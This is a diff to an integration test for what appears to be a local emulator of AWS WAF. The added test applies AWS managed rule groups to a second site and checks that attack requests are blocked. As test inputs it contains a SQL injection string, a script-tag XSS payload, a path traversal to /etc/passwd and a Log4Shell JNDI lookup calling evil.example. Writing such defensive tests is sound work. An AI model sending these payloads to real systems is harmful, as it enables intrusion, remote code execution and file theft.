@@ -16,6 +16,7 @@ import { ROOT_KEY, removeDir, startServer, tempDataDir, type TestServer } from '
 let upstream: http.Server;
 let server: TestServer;
 let site = '';
+let blog = '';
 let aclArn = '';
 const dir = tempDataDir();
 const SITE_ARN = 'arn:aws:bulwark:us-east-1:000000000000:site/shop';
@@ -26,11 +27,11 @@ async function wafv2(args: string[]): Promise<Record<string, unknown>> {
   return r.stdout.trim() ? (JSON.parse(r.stdout) as Record<string, unknown>) : {};
 }
 
-/** A GET to the site from a chosen loopback source address. */
-function get(path: string, from = '127.0.0.1'): Promise<{ status: number; body: string }> {
-  const u = new URL(site);
+/** A GET to a site (default shop) from a chosen loopback source address. */
+function get(path: string, from = '127.0.0.1', base = site, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
+  const u = new URL(base);
   return new Promise((resolve, reject) => {
-    const req = http.request({ host: u.hostname, port: Number(u.port), path, localAddress: from, agent: false }, (res) => {
+    const req = http.request({ host: u.hostname, port: Number(u.port), path, localAddress: from, agent: false, headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0', ...headers } }, (res) => {
       let body = '';
       res.on('data', (d: Buffer) => (body += d.toString()));
       res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
@@ -48,9 +49,13 @@ beforeAll(async () => {
   await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()));
   const port = (upstream.address() as AddressInfo).port;
   const configFile = join(dir, 'bulwark.yaml');
-  writeFileSync(configFile, `sites:\n  - name: shop\n    listen: 127.0.0.1:0\n    upstream: http://127.0.0.1:${port}\n`);
+  writeFileSync(
+    configFile,
+    `sites:\n  - name: shop\n    listen: 127.0.0.1:0\n    upstream: http://127.0.0.1:${port}\n  - name: blog\n    listen: 127.0.0.1:0\n    upstream: http://127.0.0.1:${port}\n`,
+  );
   server = await startServer({ dataDir: join(dir, 'data'), args: ['--config', configFile] });
   site = /Site shop on (http:\/\/[^\s]+)/.exec(server.output())?.[1] as string;
+  blog = /Site blog on (http:\/\/[^\s]+)/.exec(server.output())?.[1] as string;
   expect(site).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
 });
 
@@ -143,6 +148,48 @@ describe('a web ACL managed with aws wafv2 protects a site', () => {
     expect(reqs.some((r) => r.Action === 'BLOCK' && r.Request.URI === '/search')).toBe(true);
     const keys = await wafv2(['get-rate-based-statement-managed-keys', '--scope', 'REGIONAL', '--web-acl-name', 'shop-acl', '--web-acl-id', aclArn.split('/').pop() as string, '--rule-name', 'rate-limit']);
     expect((keys.ManagedKeysIPV4 as { Addresses: string[] }).Addresses).toContain('127.0.0.3/32');
+  });
+
+  it('AWS managed rule groups, as an exported AWS web ACL uses them, block the classic attacks', async () => {
+    const list = await wafv2(['list-available-managed-rule-groups', '--scope', 'REGIONAL']);
+    const names = (list.ManagedRuleGroups as { Name: string }[]).map((g) => g.Name);
+    expect(names).toEqual(expect.arrayContaining(['AWSManagedRulesCommonRuleSet', 'AWSManagedRulesSQLiRuleSet', 'AWSManagedRulesKnownBadInputsRuleSet']));
+    const vis = (n: string): Record<string, unknown> => ({ SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: n });
+    const managed = (name: string, priority: number, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
+      Name: `AWS-${name}`,
+      Priority: priority,
+      OverrideAction: { None: {} },
+      VisibilityConfig: vis(name),
+      Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: name, ...extra } },
+    });
+    const rules = [
+      managed('AWSManagedRulesCommonRuleSet', 0, {
+        ExcludedRules: [{ Name: 'SizeRestrictions_BODY' }],
+        RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }],
+      }),
+      managed('AWSManagedRulesSQLiRuleSet', 1),
+      managed('AWSManagedRulesKnownBadInputsRuleSet', 2),
+    ];
+    const rulesFile = join(dir, 'managed.json');
+    writeFileSync(rulesFile, JSON.stringify(rules));
+    const acl = (
+      await wafv2([
+        'create-web-acl', '--name', 'blog-acl', '--scope', 'REGIONAL', '--default-action', 'Allow={}',
+        '--visibility-config', 'SampledRequestsEnabled=true,CloudWatchMetricsEnabled=true,MetricName=blogAcl', '--rules', `file://${rulesFile}`,
+      ])
+    ).Summary as { ARN: string };
+    await wafv2(['associate-web-acl', '--web-acl-arn', acl.ARN, '--resource-arn', 'arn:aws:bulwark:us-east-1:000000000000:site/blog']);
+    // A public host name: KnownBadInputs' Host_localhost_HEADER blocks Host: localhost / 127.0.0.1, as on AWS.
+    const host = { host: 'blog.example.com' };
+    expect((await get('/', '127.0.0.1', blog)).status).toBe(403);
+    const benign = await get("/posts?q=it's+a+dog's+life%3B+isn't+it%3F", '127.0.0.1', blog, host);
+    expect(benign.status).toBe(200);
+    expect((await get("/posts?id=1'%20OR%20'1'%3D'1'--", '127.0.0.1', blog, host)).status).toBe(403);
+    expect((await get('/posts?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '127.0.0.1', blog, host)).status).toBe(403);
+    expect((await get('/static/..%2F..%2F..%2Fetc%2Fpasswd', '127.0.0.1', blog, host)).status).toBe(403);
+    expect((await get('/', '127.0.0.1', blog, { ...host, 'x-api-version': '${jndi:ldap://evil.example/a}' })).status).toBe(403);
+    // NoUserAgent_HEADER is overridden to Count: a request without a User-Agent passes.
+    expect((await get('/', '127.0.0.1', blog, { ...host, 'user-agent': '' })).status).toBe(200);
   });
 
   it('writes AWS-format log records into the aws-waf-logs bucket', async () => {
